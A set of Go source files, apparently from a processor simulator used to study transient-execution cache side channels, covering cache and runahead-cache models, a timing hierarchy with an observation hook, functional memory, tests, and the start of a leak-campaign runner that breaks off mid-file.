		for i := range s {
			if s[i].epoch != c.epoch {
				victim = i
				break
			}
		}
		c.nvalid[idx]++
	} else {
		victim = int(c.lru[idx])
		evicted, evictedDirty, hadVictim = s[victim].addr, s[victim].dirty, true
		c.unlink(idx, s, victim)
		c.Stats.Evictions++
	}
	s[victim] = line{addr: lineAddr, epoch: c.epoch, dirty: dirty, fillDone: fillDone}
	c.linkMRU(idx, s, victim)
	c.Stats.Fills++
	return evicted, evictedDirty, hadVictim
}

// SetDirty marks a present line dirty (store hit).
func (c *Cache) SetDirty(lineAddr uint64) {
	s := c.set(lineAddr)
	if w := c.findWay(s, lineAddr); w >= 0 {
		s[w].dirty = true
	}
}

// Invalidate removes lineAddr if present and reports whether it was.
func (c *Cache) Invalidate(lineAddr uint64) bool {
	idx := c.setIdx(lineAddr)
	c.initSet(idx)
	s := c.sets[idx*c.cfg.Assoc : (idx+1)*c.cfg.Assoc]
	if w := c.findWay(s, lineAddr); w >= 0 {
		c.unlink(idx, s, w)
		s[w].epoch = 0
		c.nvalid[idx]--
		c.Stats.Invalidates++
		return true
	}
	return false
}

// InvalidateAll empties the cache (used between simulations).  An epoch bump
// invalidates every line at once; set recency lists re-initialise lazily on
// first touch.
func (c *Cache) InvalidateAll() {
	c.epoch++
}

// Reset returns the cache to its just-constructed state: empty, with the
// statistics cleared, so a reused machine behaves byte-identically to a
// fresh one.
func (c *Cache) Reset() {
	c.InvalidateAll()
	c.Stats = CacheStats{}
}

// Occupancy reports the number of valid lines in the set holding lineAddr
// (for property tests: never exceeds associativity).
func (c *Cache) Occupancy(lineAddr uint64) int {
	idx := c.setIdx(lineAddr)
	if c.setEpoch[idx] != c.epoch {
		return 0
	}
	return int(c.nvalid[idx])
}
