package mem

import (
	"math/rand"
	"testing"
)

// refRACache is the previous map+order-slice implementation, kept here as an
// executable specification: the open-addressed rewrite must be
// observationally identical (same bytes present, same INV bits, same FIFO
// eviction victims), because eviction decisions feed runahead load results
// and therefore cycle-level timing.
type refRACache struct {
	cap   int
	data  map[uint64]raByte
	order []uint64
}

type raByte struct {
	b   byte
	inv bool
}

func newRefRACache(capBytes int) *refRACache {
	return &refRACache{cap: capBytes, data: make(map[uint64]raByte, capBytes)}
}

func (rc *refRACache) Write(addr uint64, size int, v uint64, inv bool) {
	for i := 0; i < size; i++ {
		a := addr + uint64(i)
		if _, ok := rc.data[a]; !ok {
			if len(rc.data) >= rc.cap {
				victim := rc.order[0]
				rc.order = rc.order[1:]
				delete(rc.data, victim)
			}
			rc.order = append(rc.order, a)
		}
		rc.data[a] = raByte{b: byte(v >> (8 * i)), inv: inv}
	}
}

func (rc *refRACache) Read(addr uint64, size int) (v uint64, present, inv bool) {
	present = true
	for i := 0; i < size; i++ {
		e, ok := rc.data[addr+uint64(i)]
		if !ok {
			return 0, false, false
		}
		v |= uint64(e.b) << (8 * i)
		inv = inv || e.inv
	}
	return v, present, inv
}

func (rc *refRACache) Covers(addr uint64, size int) bool {
	for i := 0; i < size; i++ {
		if _, ok := rc.data[addr+uint64(i)]; ok {
			return true
		}
	}
	return false
}

func (rc *refRACache) Clear() {
	clear(rc.data)
	rc.order = rc.order[:0]
}

// TestRunaheadCacheMatchesReference drives the rewrite and the reference
// model with the same randomised operation stream and requires identical
// observable behaviour, including across capacity-overflow eviction and
// episode Clears.
func TestRunaheadCacheMatchesReference(t *testing.T) {
	for _, capBytes := range []int{16, 64, 512} {
		rng := rand.New(rand.NewSource(int64(capBytes)))
		got := NewRunaheadCache(capBytes)
		want := newRefRACache(capBytes)
		// Addresses cluster in a window ~4× capacity so overlap, overwrite
		// and eviction all happen constantly.
		addrSpan := uint64(4 * capBytes)
		for op := 0; op < 50_000; op++ {
			addr := 0x8000 + rng.Uint64()%addrSpan
			size := []int{1, 2, 4, 8}[rng.Intn(4)]
			switch rng.Intn(10) {
			case 0: // episode boundary
				got.Clear()
				want.Clear()
			case 1, 2, 3: // pseudo-retired store
				v := rng.Uint64()
				inv := rng.Intn(8) == 0
				got.Write(addr, size, v, inv)
				want.Write(addr, size, v, inv)
			default: // runahead load
				if gc, wc := got.Covers(addr, size), want.Covers(addr, size); gc != wc {
					t.Fatalf("cap %d op %d: Covers(%#x,%d) = %v, reference %v", capBytes, op, addr, size, gc, wc)
				}
				gv, gp, gi := got.Read(addr, size)
				wv, wp, wi := want.Read(addr, size)
				if gv != wv || gp != wp || gi != wi {
					t.Fatalf("cap %d op %d: Read(%#x,%d) = (%#x,%v,%v), reference (%#x,%v,%v)",
						capBytes, op, addr, size, gv, gp, gi, wv, wp, wi)
				}
			}
			if got.Len() != len(want.data) {
				t.Fatalf("cap %d op %d: Len %d, reference %d", capBytes, op, got.Len(), len(want.data))
			}
		}
	}
}

// TestRunaheadCacheBoundedUnderChurn pins the satellite leak fix: the
// previous implementation's eviction (`order = order[1:]` plus append) let
// the order slice's backing array grow without bound over a long run.  The
// rewrite holds every internal array at its constructed size no matter how
// many writes stream through.
func TestRunaheadCacheBoundedUnderChurn(t *testing.T) {
	rc := NewRunaheadCache(512)
	slots, order := len(rc.slots), len(rc.order)
	for i := 0; i < 1_000_000; i++ {
		rc.Write(uint64(i)*8, 8, uint64(i), false)
	}
	if rc.Len() != 512 {
		t.Fatalf("Len = %d, want the 512-byte hardware budget", rc.Len())
	}
	if len(rc.slots) != slots || cap(rc.order) != order {
		t.Fatalf("internal arrays grew under churn: slots %d→%d, order cap %d→%d",
			slots, len(rc.slots), order, cap(rc.order))
	}
	// FIFO semantics: only the newest 512 bytes survive.
	if _, present, _ := rc.Read(0, 8); present {
		t.Fatal("oldest write still present after 1M-write churn")
	}
	if v, present, _ := rc.Read(uint64(999_999)*8, 8); !present || v != 999_999 {
		t.Fatalf("newest write lost: present=%v v=%d", present, v)
	}
}
