package mem

// RunaheadCache buffers the data of stores that pseudo-retire during runahead
// mode (Mutlu et al., HPCA'03, as summarised in §2.1 of the SPECRUN paper).
// Runahead stores must not reach architectural memory — they are discarded on
// runahead exit — but younger runahead loads need to observe them to compute
// further addresses.  Each byte carries an INV bit so that poisoned store
// data poisons dependent loads.
//
// The structure is a bounded byte-granular map; when full, new writes evict
// in insertion order (the real hardware is a tiny 512B cache — precision of
// the eviction policy is irrelevant to the attack and performance shapes).
type RunaheadCache struct {
	cap   int
	data  map[uint64]raByte
	order []uint64

	Writes uint64
	Reads  uint64
}

type raByte struct {
	b   byte
	inv bool
}

// NewRunaheadCache returns a runahead cache bounded to capBytes bytes.
func NewRunaheadCache(capBytes int) *RunaheadCache {
	if capBytes <= 0 {
		capBytes = 512
	}
	return &RunaheadCache{cap: capBytes, data: make(map[uint64]raByte, capBytes)}
}

// Write stores the low size bytes of v at addr.  inv marks the data as
// poisoned (store with an INV source).
func (rc *RunaheadCache) Write(addr uint64, size int, v uint64, inv bool) {
	rc.Writes++
	for i := 0; i < size; i++ {
		a := addr + uint64(i)
		if _, ok := rc.data[a]; !ok {
			if len(rc.data) >= rc.cap {
				// Evict the oldest byte.
				victim := rc.order[0]
				rc.order = rc.order[1:]
				delete(rc.data, victim)
			}
			rc.order = append(rc.order, a)
		}
		rc.data[a] = raByte{b: byte(v >> (8 * i)), inv: inv}
	}
}

// Read fetches size bytes at addr.  present is true only if every byte is
// buffered here; inv is true if any byte is poisoned.
func (rc *RunaheadCache) Read(addr uint64, size int) (v uint64, present, inv bool) {
	rc.Reads++
	present = true
	for i := 0; i < size; i++ {
		e, ok := rc.data[addr+uint64(i)]
		if !ok {
			return 0, false, false
		}
		v |= uint64(e.b) << (8 * i)
		inv = inv || e.inv
	}
	return v, present, inv
}

// Covers reports whether any byte of [addr, addr+size) is buffered; such
// loads cannot simply bypass to memory.
func (rc *RunaheadCache) Covers(addr uint64, size int) bool {
	for i := 0; i < size; i++ {
		if _, ok := rc.data[addr+uint64(i)]; ok {
			return true
		}
	}
	return false
}

// Clear empties the cache (on runahead exit).
func (rc *RunaheadCache) Clear() {
	clear(rc.data)
	rc.order = rc.order[:0]
}

// Len reports the number of buffered bytes.
func (rc *RunaheadCache) Len() int { return len(rc.data) }
