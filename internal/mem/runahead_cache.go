package mem

// RunaheadCache buffers the data of stores that pseudo-retire during runahead
// mode (Mutlu et al., HPCA'03, as summarised in §2.1 of the SPECRUN paper).
// Runahead stores must not reach architectural memory — they are discarded on
// runahead exit — but younger runahead loads need to observe them to compute
// further addresses.  Each byte carries an INV bit so that poisoned store
// data poisons dependent loads.
//
// The structure models the hardware budget directly: a fixed open-addressed
// byte store (linear probing) with an epoch tag per slot, plus a FIFO ring of
// insertion addresses for eviction.  When full, new writes evict the oldest
// buffered byte — the same insertion-order policy the previous map-based
// implementation used (the real hardware is a tiny 512B cache; precision of
// the eviction policy is irrelevant to the attack and performance shapes).
// Clear is O(1): bumping the epoch invalidates every slot, so the per-episode
// reset that runahead exit performs costs nothing, and no allocation ever
// happens after construction.
type RunaheadCache struct {
	cap   int      // byte capacity (the hardware budget)
	mask  uint64   // len(slots)-1; len is a power of two
	slots []raSlot // open-addressed byte store
	live  int      // buffered bytes in the current epoch
	dead  int      // tombstones in the current epoch (evicted slots)
	epoch uint64   // current generation; slots from older epochs are free

	order     []uint64 // FIFO ring of buffered byte addresses (eviction order)
	ordHead   int
	scratch   []raSlot // reused by compact(); no steady-state allocation
	compactsN uint64   // rehash count (observability/tests)

	Writes uint64
	Reads  uint64
}

// slot states, meaningful only when the slot's epoch is current.
const (
	raFree uint8 = iota
	raLive
	raDead // evicted (tombstone): keeps probe chains intact until compaction
)

type raSlot struct {
	addr  uint64
	epoch uint64
	b     byte
	inv   bool
	state uint8
}

// NewRunaheadCache returns a runahead cache bounded to capBytes bytes.
func NewRunaheadCache(capBytes int) *RunaheadCache {
	if capBytes <= 0 {
		capBytes = 512
	}
	// Size the table to 4× capacity (next power of two): with live ≤ cap the
	// load factor stays ≤ 1/4 plus tombstones, keeping probe chains short.
	n := 1
	for n < 4*capBytes {
		n <<= 1
	}
	return &RunaheadCache{
		cap:     capBytes,
		mask:    uint64(n - 1),
		slots:   make([]raSlot, n),
		order:   make([]uint64, capBytes),
		scratch: make([]raSlot, 0, capBytes),
	}
}

// Cap reports the byte capacity.
func (rc *RunaheadCache) Cap() int { return rc.cap }

func (rc *RunaheadCache) hash(addr uint64) uint64 {
	// Fibonacci hashing; byte addresses are dense and sequential.
	return (addr * 0x9e3779b97f4a7c15) >> 32 & rc.mask
}

// find returns the slot holding addr in the current epoch, or nil.
func (rc *RunaheadCache) find(addr uint64) *raSlot {
	for i := rc.hash(addr); ; i = (i + 1) & rc.mask {
		s := &rc.slots[i]
		if s.epoch != rc.epoch || s.state == raFree {
			return nil
		}
		if s.state == raLive && s.addr == addr {
			return s
		}
	}
}

// insertSlot claims a slot for addr (which must not be present).
func (rc *RunaheadCache) insertSlot(addr uint64) *raSlot {
	if rc.live+rc.dead >= len(rc.slots)/2 {
		rc.compact()
	}
	for i := rc.hash(addr); ; i = (i + 1) & rc.mask {
		s := &rc.slots[i]
		if s.epoch != rc.epoch || s.state != raLive {
			if s.epoch == rc.epoch && s.state == raDead {
				rc.dead--
			}
			s.addr = addr
			s.epoch = rc.epoch
			s.state = raLive
			rc.live++
			return s
		}
	}
}

// compact rewrites the table without tombstones (same epoch contents).  It
// runs only when evictions have filled half the table with tombstones —
// never in the common episode whose writes fit the budget.
func (rc *RunaheadCache) compact() {
	rc.compactsN++
	rc.scratch = rc.scratch[:0]
	for i := range rc.slots {
		s := &rc.slots[i]
		if s.epoch == rc.epoch && s.state == raLive {
			rc.scratch = append(rc.scratch, *s)
		}
	}
	rc.epoch++
	rc.live, rc.dead = 0, 0
	for i := range rc.scratch {
		e := &rc.scratch[i]
		s := rc.insertSlot(e.addr)
		s.b, s.inv = e.b, e.inv
	}
}

// evictOldest drops the least recently inserted byte.
func (rc *RunaheadCache) evictOldest() {
	victim := rc.order[rc.ordHead]
	rc.ordHead = (rc.ordHead + 1) % len(rc.order)
	if s := rc.find(victim); s != nil {
		s.state = raDead
		rc.live--
		rc.dead++
	}
}

// Write stores the low size bytes of v at addr.  inv marks the data as
// poisoned (store with an INV source).
func (rc *RunaheadCache) Write(addr uint64, size int, v uint64, inv bool) {
	rc.Writes++
	for i := 0; i < size; i++ {
		a := addr + uint64(i)
		s := rc.find(a)
		if s == nil {
			if rc.live >= rc.cap {
				rc.evictOldest()
			}
			s = rc.insertSlot(a)
			// The order ring has exactly cap slots and live < cap here, so
			// the tail position is free.
			rc.order[(rc.ordHead+rc.live-1)%len(rc.order)] = a
		}
		s.b = byte(v >> (8 * i))
		s.inv = inv
	}
}

// Read fetches size bytes at addr.  present is true only if every byte is
// buffered here; inv is true if any byte is poisoned.
func (rc *RunaheadCache) Read(addr uint64, size int) (v uint64, present, inv bool) {
	rc.Reads++
	present = true
	for i := 0; i < size; i++ {
		s := rc.find(addr + uint64(i))
		if s == nil {
			return 0, false, false
		}
		v |= uint64(s.b) << (8 * i)
		inv = inv || s.inv
	}
	return v, present, inv
}

// Covers reports whether any byte of [addr, addr+size) is buffered; such
// loads cannot simply bypass to memory.
func (rc *RunaheadCache) Covers(addr uint64, size int) bool {
	for i := 0; i < size; i++ {
		if rc.find(addr+uint64(i)) != nil {
			return true
		}
	}
	return false
}

// Clear empties the cache (on runahead exit).  O(1): the epoch bump retires
// every slot at once.
func (rc *RunaheadCache) Clear() {
	rc.epoch++
	rc.live, rc.dead = 0, 0
	rc.ordHead = 0
}

// Reset returns the cache to its just-constructed state (machine reuse).
func (rc *RunaheadCache) Reset() {
	rc.Clear()
	rc.Writes, rc.Reads = 0, 0
	rc.compactsN = 0
}

// Len reports the number of buffered bytes.
func (rc *RunaheadCache) Len() int { return rc.live }

// Compactions reports how many tombstone compactions have run (tests).
func (rc *RunaheadCache) Compactions() uint64 { return rc.compactsN }
