package mem

import "fmt"

// Level identifies where in the hierarchy an access was served.
type Level uint8

const (
	LevelNone Level = iota
	LevelL1
	LevelL2
	LevelL3
	LevelMem
)

func (l Level) String() string {
	switch l {
	case LevelL1:
		return "L1"
	case LevelL2:
		return "L2"
	case LevelL3:
		return "L3"
	case LevelMem:
		return "mem"
	default:
		return "none"
	}
}

// MarshalText renders the level as its String form, so configurations
// serialise to stable, human-readable JSON ("mem" rather than 4).
func (l Level) MarshalText() ([]byte, error) { return []byte(l.String()), nil }

// UnmarshalText parses the String form (case-insensitive).
func (l *Level) UnmarshalText(text []byte) error {
	switch s := string(text); s {
	case "none", "":
		*l = LevelNone
	case "L1", "l1":
		*l = LevelL1
	case "L2", "l2":
		*l = LevelL2
	case "L3", "l3":
		*l = LevelL3
	case "mem", "Mem", "MEM":
		*l = LevelMem
	default:
		return fmt.Errorf("mem: unknown level %q", s)
	}
	return nil
}

// Port selects the first-level cache used by an access.
type Port uint8

const (
	// PortI is the instruction-fetch port (L1 I-cache).
	PortI Port = iota
	// PortD is the data port (L1 D-cache).
	PortD
)

// Config describes the whole hierarchy.  The defaults follow Table 1 of the
// paper: 16KB 4-way L1s (2 cycles), 128KB 8-way L2 (8 cycles), 4MB 8-way L3
// (32 cycles), and a request-based contention model with a 200-cycle memory.
type Config struct {
	LineSize          int         `json:"line_size"`
	L1I               CacheConfig `json:"l1i"`
	L1D               CacheConfig `json:"l1d"`
	L2                CacheConfig `json:"l2"`
	L3                CacheConfig `json:"l3"`
	MemLatency        int         `json:"mem_latency"`         // DRAM access latency in cycles
	MemBusCycles      int         `json:"mem_bus_cycles"`      // per-request channel occupancy (contention)
	MemMaxOutstanding int         `json:"mem_max_outstanding"` // maximum in-flight memory requests (MSHR-like)
}

// DefaultConfig returns the Table 1 memory configuration.
func DefaultConfig() Config {
	return Config{
		LineSize:          64,
		L1I:               CacheConfig{Name: "L1I", Size: 16 << 10, Assoc: 4, Latency: 2},
		L1D:               CacheConfig{Name: "L1D", Size: 16 << 10, Assoc: 4, Latency: 2},
		L2:                CacheConfig{Name: "L2", Size: 128 << 10, Assoc: 8, Latency: 8},
		L3:                CacheConfig{Name: "L3", Size: 4 << 20, Assoc: 8, Latency: 32},
		MemLatency:        200,
		MemBusCycles:      4,
		MemMaxOutstanding: 16,
	}
}

// CacheEventKind classifies one hierarchy state change.
type CacheEventKind uint8

const (
	// CacheFill is a line installed into a level (demand fill, MSHR merge
	// target, prefetch or store drain alike — every install is a fill).
	CacheFill CacheEventKind = iota
	// CacheEvict is the victim a fill displaced from its set.
	CacheEvict
)

func (k CacheEventKind) String() string {
	if k == CacheEvict {
		return "evict"
	}
	return "fill"
}

// CacheEvent is one data-side cache state change: the residency transitions
// an attacker sharing the hierarchy could measure by probing.  Events carry
// no cycle numbers — the leak oracle compares event *sequences*, where pure
// timing shifts must not register as divergence.
type CacheEvent struct {
	Line  uint64         // line-aligned address
	Level Level          // level whose state changed
	Kind  CacheEventKind //
}

// SetObserver installs fn to receive one CacheEvent per data-side fill and
// per eviction it causes, in simulation order (nil removes it).  The hook
// survives Reset.  Instruction-side (PortI) traffic is not reported: the
// observation model is a data-cache prime-and-probe attacker.  Emission
// sites are nil-checked and pass values the simulation computed anyway, so
// a disabled tap changes nothing and allocates nothing.
func (h *Hierarchy) SetObserver(fn func(CacheEvent)) { h.obsFn = fn }

// Result reports the outcome of a timing access.
type Result struct {
	Done  uint64 // cycle at which the data is available
	Level Level  // level that served the access (LevelMem on a full miss)
}

// HierarchyStats aggregates memory-controller statistics.
type HierarchyStats struct {
	MemRequests uint64
	Writebacks  uint64
	Flushes     uint64
}

// Hierarchy is the full cache/memory timing model: split L1s, unified
// inclusive L2 and L3, and a contended memory channel.
type Hierarchy struct {
	cfg      Config
	l1i, l1d *Cache
	l2, l3   *Cache

	busFree  uint64   // next cycle the memory channel can accept a request
	inflight []uint64 // completion cycles of outstanding memory requests

	obsFn func(CacheEvent) // leak tap (SetObserver); kept across Reset

	Stats HierarchyStats
}

// NewHierarchy builds the hierarchy from cfg.
func NewHierarchy(cfg Config) *Hierarchy {
	if cfg.LineSize <= 0 || cfg.LineSize&(cfg.LineSize-1) != 0 {
		panic(fmt.Sprintf("mem: line size %d is not a power of two", cfg.LineSize))
	}
	if cfg.MemMaxOutstanding <= 0 {
		cfg.MemMaxOutstanding = 16
	}
	return &Hierarchy{
		cfg: cfg,
		l1i: NewCache(cfg.L1I, cfg.LineSize),
		l1d: NewCache(cfg.L1D, cfg.LineSize),
		l2:  NewCache(cfg.L2, cfg.LineSize),
		l3:  NewCache(cfg.L3, cfg.LineSize),
		// The outstanding-request window never exceeds MemMaxOutstanding
		// live entries plus the one being appended; sizing it up front keeps
		// memRequest allocation-free for the life of the hierarchy.
		inflight: make([]uint64, 0, cfg.MemMaxOutstanding+1),
	}
}

// Reset returns the hierarchy to its just-constructed state (machine reuse):
// cold caches, an idle channel and zeroed statistics.
func (h *Hierarchy) Reset() {
	h.l1i.Reset()
	h.l1d.Reset()
	h.l2.Reset()
	h.l3.Reset()
	h.busFree = 0
	h.inflight = h.inflight[:0]
	h.Stats = HierarchyStats{}
}

// Config returns the hierarchy configuration.
func (h *Hierarchy) Config() Config { return h.cfg }

// LineAddr aligns addr down to its cache line.
func (h *Hierarchy) LineAddr(addr uint64) uint64 {
	return addr &^ uint64(h.cfg.LineSize-1)
}

// Caches returns the four cache levels (L1I, L1D, L2, L3) for stats readers.
func (h *Hierarchy) Caches() (l1i, l1d, l2, l3 *Cache) { return h.l1i, h.l1d, h.l2, h.l3 }

func (h *Hierarchy) l1(port Port) *Cache {
	if port == PortI {
		return h.l1i
	}
	return h.l1d
}

// memRequest reserves a memory-channel slot at or after earliest and returns
// the cycle the request starts service.  This is the "request-based
// contention model" from Table 1: requests serialise on channel occupancy
// and on the outstanding-request window.
func (h *Hierarchy) memRequest(earliest uint64) uint64 {
	// Drop completed requests from the outstanding window.
	live := h.inflight[:0]
	for _, d := range h.inflight {
		if d > earliest {
			live = append(live, d)
		}
	}
	h.inflight = live
	start := earliest
	if len(h.inflight) >= h.cfg.MemMaxOutstanding {
		oldest := h.inflight[0]
		for _, d := range h.inflight[1:] {
			if d < oldest {
				oldest = d
			}
		}
		if oldest > start {
			start = oldest
		}
	}
	if h.busFree > start {
		start = h.busFree
	}
	h.busFree = start + uint64(h.cfg.MemBusCycles)
	done := start + uint64(h.cfg.MemLatency)
	h.inflight = append(h.inflight, done)
	h.Stats.MemRequests++
	return done
}

// writeback models the channel occupancy of a dirty eviction: the write-back
// reserves the memory channel at or after the cycle the eviction happens
// (the incoming line's fill completion), exactly like memRequest reserves it
// for reads.  Reserving from the stale busFree instead would schedule the
// traffic in the past whenever the channel has been idle, and dirty-eviction
// storms would never contend with the demand misses that caused them.
func (h *Hierarchy) writeback(now uint64) {
	h.Stats.Writebacks++
	start := now
	if h.busFree > start {
		start = h.busFree
	}
	h.busFree = start + uint64(h.cfg.MemBusCycles)
}

// install inserts a line into one level, modelling the victim's write-back
// and — for observed (data-side) fills — reporting the fill and any eviction
// to the leak tap.
func (h *Hierarchy) install(c *Cache, lv Level, lineAddr, fillDone uint64, dirty, observe bool) {
	evicted, evictedDirty, had := c.Insert(lineAddr, fillDone, dirty)
	if had && evictedDirty {
		h.writeback(fillDone)
	}
	if observe && h.obsFn != nil {
		h.obsFn(CacheEvent{Line: lineAddr, Level: lv, Kind: CacheFill})
		if had {
			h.obsFn(CacheEvent{Line: evicted, Level: lv, Kind: CacheEvict})
		}
	}
}

// Access performs a timing access at cycle now.  On a miss the line is
// installed in every level (inclusive fill) with the fill-completion cycle;
// a second access to an in-flight line merges into the pending fill (MSHR
// behaviour).  Fills persist regardless of later pipeline squashes — this is
// the microarchitectural side channel.
func (h *Hierarchy) Access(port Port, addr, now uint64, write bool) Result {
	la := h.LineAddr(addr)
	l1 := h.l1(port)
	obs := port == PortD

	lat := now + uint64(l1.Config().Latency)
	if hit, ready := l1.Lookup(la, now); hit {
		if write {
			l1.SetDirty(la)
		}
		return Result{Done: maxU64(lat, ready), Level: LevelL1}
	}

	lat += uint64(h.l2.Config().Latency)
	if hit, ready := h.l2.Lookup(la, now); hit {
		done := maxU64(lat, ready)
		h.install(l1, LevelL1, la, done, write, obs)
		return Result{Done: done, Level: LevelL2}
	}

	lat += uint64(h.l3.Config().Latency)
	if hit, ready := h.l3.Lookup(la, now); hit {
		done := maxU64(lat, ready)
		h.install(h.l2, LevelL2, la, done, false, obs)
		h.install(l1, LevelL1, la, done, write, obs)
		return Result{Done: done, Level: LevelL3}
	}

	done := h.memRequest(lat)
	h.install(h.l3, LevelL3, la, done, false, obs)
	h.install(h.l2, LevelL2, la, done, false, obs)
	h.install(l1, LevelL1, la, done, write, obs)
	return Result{Done: done, Level: LevelMem}
}

// AccessNoFill computes the timing of an access without changing any cache
// state (no fills, no promotions, no LRU updates).  It is used by the secure
// runahead mode: loads issued during runahead must stay invisible in the
// hierarchy, so misses are timed (the memory request is real and contends for
// the channel) but the line is *not* installed — the caller places it in the
// SL cache instead.
func (h *Hierarchy) AccessNoFill(port Port, addr, now uint64) Result {
	la := h.LineAddr(addr)
	l1 := h.l1(port)

	lat := now + uint64(l1.Config().Latency)
	if ok, fill := l1.ProbeReady(la); ok {
		return Result{Done: maxU64(lat, fill), Level: LevelL1}
	}
	lat += uint64(h.l2.Config().Latency)
	if ok, fill := h.l2.ProbeReady(la); ok {
		return Result{Done: maxU64(lat, fill), Level: LevelL2}
	}
	lat += uint64(h.l3.Config().Latency)
	if ok, fill := h.l3.ProbeReady(la); ok {
		return Result{Done: maxU64(lat, fill), Level: LevelL3}
	}
	done := h.memRequest(lat)
	return Result{Done: done, Level: LevelMem}
}

// Flush evicts the line containing addr from every level (CLFLUSH).  It
// reports whether the line was present anywhere.
func (h *Hierarchy) Flush(addr uint64) bool {
	la := h.LineAddr(addr)
	any := false
	for _, c := range []*Cache{h.l1i, h.l1d, h.l2, h.l3} {
		if c.Invalidate(la) {
			any = true
		}
	}
	h.Stats.Flushes++
	return any
}

// HitLevel reports the highest level currently holding addr, without
// perturbing any state.  The harness uses it to inspect covert-channel
// residue; it is not visible to simulated programs.
func (h *Hierarchy) HitLevel(port Port, addr uint64) Level {
	la := h.LineAddr(addr)
	if h.l1(port).Probe(la) {
		return LevelL1
	}
	if h.l2.Probe(la) {
		return LevelL2
	}
	if h.l3.Probe(la) {
		return LevelL3
	}
	return LevelMem
}

// Present reports whether addr is cached at any level on the given port side.
func (h *Hierarchy) Present(port Port, addr uint64) bool {
	return h.HitLevel(port, addr) != LevelMem
}

// InvalidateAll cold-starts every cache (between experiment runs).
func (h *Hierarchy) InvalidateAll() {
	h.l1i.InvalidateAll()
	h.l1d.InvalidateAll()
	h.l2.InvalidateAll()
	h.l3.InvalidateAll()
	h.busFree = 0
	h.inflight = h.inflight[:0]
}

func maxU64(a, b uint64) uint64 {
	if a > b {
		return a
	}
	return b
}
