// Package mem models the memory subsystem of the simulated processor: a flat
// functional memory image (committed architectural state), the timing caches
// (L1I, L1D, unified L2 and L3 per Table 1 of the paper), a request-based
// contention model for main memory, and the runahead cache used to hold
// pseudo-retired store data during runahead mode.
//
// The design is a classic decoupled functional/timing split: caches track
// tags and fill timing only, while data values live in Memory (plus the store
// queues and the runahead cache inside the CPU model).  Cache fills survive
// pipeline squashes, which is exactly the transient-execution side channel
// SPECRUN exploits.
package mem

import "encoding/binary"

const pageSize = 1 << 12

type page [pageSize]byte

// Memory is a sparse, byte-addressable functional memory image.  It holds
// committed architectural state only; speculative stores are buffered in the
// CPU's store queue and runahead stores in the RunaheadCache.
type Memory struct {
	pages map[uint64]*page
	pool  []*page // zeroed pages released by Reset, reused by pageFor
}

// NewMemory returns an empty memory image.  Unwritten bytes read as zero.
func NewMemory() *Memory {
	return &Memory{pages: make(map[uint64]*page)}
}

// Reset empties the image for machine reuse.  Allocated pages move to a free
// list (zeroed), so a reused machine touching a similar footprint allocates
// nothing.
func (m *Memory) Reset() {
	for _, p := range m.pages {
		*p = page{}
		m.pool = append(m.pool, p)
	}
	clear(m.pages)
}

func (m *Memory) pageFor(addr uint64, create bool) *page {
	base := addr &^ (pageSize - 1)
	p := m.pages[base]
	if p == nil && create {
		if n := len(m.pool); n > 0 {
			p = m.pool[n-1]
			m.pool = m.pool[:n-1]
		} else {
			p = new(page)
		}
		m.pages[base] = p
	}
	return p
}

// ByteAt returns the byte at addr.
func (m *Memory) ByteAt(addr uint64) byte {
	p := m.pageFor(addr, false)
	if p == nil {
		return 0
	}
	return p[addr%pageSize]
}

// SetByte stores b at addr.
func (m *Memory) SetByte(addr uint64, b byte) {
	m.pageFor(addr, true)[addr%pageSize] = b
}

// Read returns size bytes starting at addr as a little-endian integer.
// size must be 1..8.
func (m *Memory) Read(addr uint64, size int) uint64 {
	var v uint64
	for i := 0; i < size; i++ {
		v |= uint64(m.ByteAt(addr+uint64(i))) << (8 * i)
	}
	return v
}

// Write stores the low size bytes of v at addr, little-endian.
func (m *Memory) Write(addr uint64, size int, v uint64) {
	for i := 0; i < size; i++ {
		m.SetByte(addr+uint64(i), byte(v>>(8*i)))
	}
}

// ReadU64 reads a 64-bit little-endian word.
func (m *Memory) ReadU64(addr uint64) uint64 { return m.Read(addr, 8) }

// WriteU64 writes a 64-bit little-endian word.
func (m *Memory) WriteU64(addr uint64, v uint64) { m.Write(addr, 8, v) }

// SetBytes copies b into memory starting at addr.
func (m *Memory) SetBytes(addr uint64, b []byte) {
	for i, c := range b {
		m.SetByte(addr+uint64(i), c)
	}
}

// ReadBytes copies n bytes starting at addr into a fresh slice.
func (m *Memory) ReadBytes(addr uint64, n int) []byte {
	b := make([]byte, n)
	for i := range b {
		b[i] = m.ByteAt(addr + uint64(i))
	}
	return b
}

// ReadU64Slice reads n consecutive 64-bit words starting at addr.
func (m *Memory) ReadU64Slice(addr uint64, n int) []uint64 {
	out := make([]uint64, n)
	for i := range out {
		out[i] = m.ReadU64(addr + uint64(i)*8)
	}
	return out
}

// Footprint reports the number of allocated pages (for tests).
func (m *Memory) Footprint() int { return len(m.pages) }

var _ = binary.LittleEndian // documents the byte order used throughout
