package leak

import (
	"context"
	"fmt"

	"specrun/internal/difftest"
	"specrun/internal/proggen"
	"specrun/internal/sweep"
)

// DefaultSecretBytes is the secret-region size leak campaigns generate
// programs with (one cache line: enough for index- and line-granular
// transmission gadgets, small enough to keep the two valuations cheap).
const DefaultSecretBytes = 64

// ConfigSummary aggregates a leak campaign's runs for one configuration.
type ConfigSummary struct {
	Config string `json:"config"`
	Runs   int    `json:"runs"`
	Leaks  int    `json:"leaks"`
	Errors int    `json:"errors"`
}

// Report is the leak-campaign outcome.  Like the difftest report it is
// deterministic for a given spec, across runs and worker counts.  Leaks are
// findings, not failures: a leaky insecure configuration is the expected
// behaviour the paper documents, so Clean tracks only oracle errors
// (run_error, seq_divergence) and golden-corpus expectation violations stay
// visible in Corpus.
type Report struct {
	Spec      difftest.CampaignSpec `json:"spec"`
	Configs   int                   `json:"configs"`
	Runs      int                   `json:"runs"`
	Leaks     int                   `json:"leaks"`
	Errors    int                   `json:"errors"`
	Clean     bool                  `json:"clean"`
	Corpus    []CorpusRow           `json:"corpus,omitempty"`
	Findings  []Finding             `json:"findings,omitempty"`
	PerConfig []ConfigSummary       `json:"per_config"`
}

// Options returns the generator options a leak campaign fuzzes with: the
// difftest options plus a secret region (which also unlocks the generator's
// Spectre-shaped gadget).
func Options(spec difftest.CampaignSpec) proggen.Options {
	popt := spec.Options()
	popt.SecretBytes = DefaultSecretBytes
	return popt
}

// Run executes a leak campaign: the golden attack corpus first (every PoC
// variant against every matrix configuration), then the generated-seed
// sweep, sharded exactly like difftest.Run and honouring a sweep.Gate on
// ctx.  Leaky seeds are minimized with the difftest shrinker unless the
// spec opts out.
func Run(ctx context.Context, spec difftest.CampaignSpec, opt sweep.Options) (Report, error) {
